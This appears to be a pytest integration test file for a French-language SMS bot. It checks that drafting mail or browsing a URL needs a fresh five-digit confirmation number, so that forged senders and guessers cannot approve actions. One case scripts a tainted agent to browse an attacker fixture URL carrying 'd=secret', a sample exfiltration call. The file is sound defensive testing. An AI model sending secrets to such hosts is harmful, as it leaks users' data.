"""Drafts and permissions on SMS, whose senders can be forged: a number that stands only in the question says yes."""

import re
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from sqlmodel import col, select

from bot.cli.commands import add_user
from bot.dao.work import runs
from bot.models import Address, OutboundPart, PendingInteraction, User
from bot.services.approval.numbers import MOST_WRONG
from bot.types import Mode
from tests.fakes.attacker import Attacker
from tests.fakes.keys import conversation_id
from tests.fakes.mail import MailServer
from tests.fakes.model import Request, Step, calls, says
from tests.integration.conversation.conftest import Line

pytestmark = pytest.mark.one_database

SMS = "+2250700000001"
AWA, BOSS = "awa@example.org", "compta@example.org"
DRAFT = {"to": [BOSS], "subject": "Facture 12", "text": "Voici la facture.\n\nAwa"}
Kind = tuple["Phone", Callable[[], int]]


class Phone:
    """The professional's SMS; `left` counts what has left the house."""

    def __init__(self, line: Line, name: str, arguments: dict[str, Any]) -> None:
        self.line, self._call = line, (name, arguments)

    def asks(self) -> str:
        """The agent wants to act; the number that its question holds."""
        self.line.model.script(self._obeys)
        heard = self.says("Occupe-toi de cela aujourd’hui")
        found = re.findall(r"\b\d{5}\b", heard)
        return found[-1] if "Puis-je" in heard or "tel qu" in heard else ""

    def says(self, reply: str) -> str:
        self.line.says(reply, address=SMS)
        heard = "\n".join(self.line.hears(SMS))
        with self.line.database.write() as session:
            waiting = select(OutboundPart).where(col(OutboundPart.first_dispatched_at).is_(None))
            for part in session.exec(waiting.where(OutboundPart.channel != "email")):
                part.first_dispatched_at = self.line.clock.now()
        self.line.clock.skip(1)
        self.line.runtime.delivery.deliver_mails(conversation_id(SMS))
        return heard

    def outcomes(self) -> list[str]:
        with self.line.database.read() as session:
            return list(session.exec(select(PendingInteraction.outcome).order_by(col(PendingInteraction.id))))

    def _obeys(self, request: Request) -> Step:
        last = request["messages"][-1]
        return says(f"fini : {last['content']}") if last["role"] == "tool" else calls(self._call)


@pytest.fixture
def evil() -> Iterator[Attacker]:
    with Attacker() as attacker:
        yield attacker


@pytest.fixture
def open_phone(
    open_line: Callable[..., Line], server: MailServer, evil: Attacker
) -> Callable[[str, dict[str, Any]], Phone]:
    def phone(name: str, arguments: dict[str, Any]) -> Phone:
        line = open_line(
            smtp_url=f"smtp://127.0.0.1:{server.port}",
            mail_from="Palabre <bot@palabre.example>",
            browse_allow_hosts=f"127.0.0.1:{evil.port}",
        )
        add_user(line.database, SMS, Mode.PRO, 500)
        with line.database.write() as session:
            found = session.exec(select(Address).where(Address.value == SMS)).one()
            session.get_one(User, found.user_id).email = AWA
        line.model.script(lambda _request: says("Bonjour"))
        line.says("Bonjour", address=SMS)
        line.hears(SMS)
        with line.database.write() as session:
            runs.taint(session, line.run().id, conversation_id(SMS))
        return Phone(line, name, arguments)

    return phone


@pytest.fixture(params=["draft", "approval"])
def kind(
    request: pytest.FixtureRequest,
    open_phone: Callable[[str, dict[str, Any]], Phone],
    server: MailServer,
    evil: Attacker,
) -> Kind:
    if request.param == "draft":
        return open_phone("draft_email", DRAFT), lambda: len(server.inbox)
    return open_phone("browse_url", {"urls": [f"{evil.url}/log?d=secret"]}), lambda: len(evil.log)


def another(number: str) -> str:
    return str(10_000 + (int(number) + 1) % 90_000)


def test_the_number_does_it_once(kind: Kind) -> None:
    phone, left = kind
    number = phone.asks()
    assert re.fullmatch(r"\d{5}", number)
    phone.line.model.script(lambda _request: says("fini"))
    phone.says(f"{number[:2]} {number[2:]}")
    phone.says(number)
    assert (left(), phone.outcomes()) == (1, ["answered"])


@pytest.mark.parametrize("blind", ["1", "1.", "oui", "ok", "YES"])
def test_what_is_known_in_advance_does_nothing(kind: Kind, blind: str) -> None:
    phone, left = kind
    number = phone.asks()
    heard = phone.says(blind)
    assert number in heard, "who holds the phone is told how to say it"
    assert (left(), phone.outcomes()) == (0, [""])
    phone.line.model.script(lambda _request: says("fini"))
    phone.says(number)
    assert left() == 1


@pytest.mark.parametrize("no", ["0", "non"])
def test_a_no_needs_no_number(kind: Kind, no: str) -> None:
    phone, left = kind
    number = phone.asks()
    phone.line.model.script(lambda _request: says("fini"))
    phone.says(no)
    phone.says(number)
    assert left() == 0
    assert phone.outcomes() != ["answered"]


def test_every_question_has_another_number(kind: Kind) -> None:
    phone, left = kind
    first = phone.asks()
    assert phone.asks() != first
    assert "Ce n’est pas le nombre" in phone.says(first).replace("'", "’")
    assert left() == 0


def test_three_wrong_numbers_end_the_question(kind: Kind) -> None:
    phone, left = kind
    number = phone.asks()
    for at in range(3):
        heard = phone.says(another(number))
        assert ("essai" in heard) is (at < 2)
    phone.line.model.script(lambda _request: says("fini"))
    phone.says(number)
    assert (left(), phone.outcomes()) == (0, ["void"])


def test_guesses_of_a_day_are_counted_over_questions_that_were_left(kind: Kind) -> None:
    """Whoever guesses twice and then lets go of the question would else guess all day."""
    phone, left = kind
    guesses = 0
    while number := phone.asks():
        for _ in range(2):
            phone.says(another(number))
            guesses += 1
        phone.line.model.script(lambda _request: says("fini"))
        phone.says("Autre chose : bonjour à tous")
        assert guesses <= MOST_WRONG
    assert left() == 0
    assert guesses >= MOST_WRONG - 2
    phone.line.clock.skip(90_000)
    assert phone.asks()
